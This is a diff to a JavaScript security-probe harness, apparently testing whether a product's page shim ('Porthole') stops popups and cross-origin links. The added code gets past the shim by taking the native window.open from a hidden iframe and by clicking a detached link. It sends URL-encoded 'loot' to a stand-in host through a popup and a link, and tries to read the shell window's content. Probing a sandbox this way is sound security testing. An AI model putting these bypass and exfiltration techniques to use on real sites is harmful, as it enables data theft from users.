@@ -192,10 +192,18 @@
   window.__evilPopups = () => {
     out.activation = !!(navigator.userActivation && navigator.userActivation.isActive);
     const stolen = encodeURIComponent(out.loot.join("\n").slice(0, 1500));
+    // Porthole's page shim sends window.open and links to other origins
+    // to an interstitial; an attacker undoes that (the shim is no security
+    // boundary): the native open of a fresh frame, and a link whose click
+    // no listener of the page sees.
+    const spare = document.createElement("iframe");
+    spare.style.display = "none";
+    document.body.append(spare);
+    const open = (...args) => spare.contentWindow.open.call(window, ...args);
     // A popup uses up the click: the session window's origin first.
     const p = [
       record("openShellWindow", () => new Promise((resolve, reject) => {
-        const w = window.open(shell + "/", "_blank");
+        const w = open(shell + "/", "_blank");
         if (!w) { reject(new Error("no reference")); return; }
         setTimeout(() => {
           try { resolve("closed=" + w.closed + " body: " + w.document.body.innerHTML); } catch (e) { reject(new Error("closed=" + w.closed + " " + e.name)); }
@@ -204,15 +212,15 @@
       record("popupCarryingLoot", () => {
         // Inside the session window, window.open gives no reference back
         // (its COOP): the popup may still open, carrying the URL.
-        const w = window.open("http://example.invalid/?loot=" + stolen, "_blank");
+        const w = open("http://example.invalid/?loot=" + stolen, "_blank");
         return w ? "opened, with a reference" : "opened or blocked, no reference";
       }),
       record("linkCarryingLoot", () => {
         const a = document.createElement("a");
         a.href = "http://example.invalid/?loot=" + stolen;
         a.target = "_blank";
-        document.body.append(a);
-        a.click();
+        a.click(); // not in the document: no listener of it sees the click
+
         return "clicked";
       }),
     ];
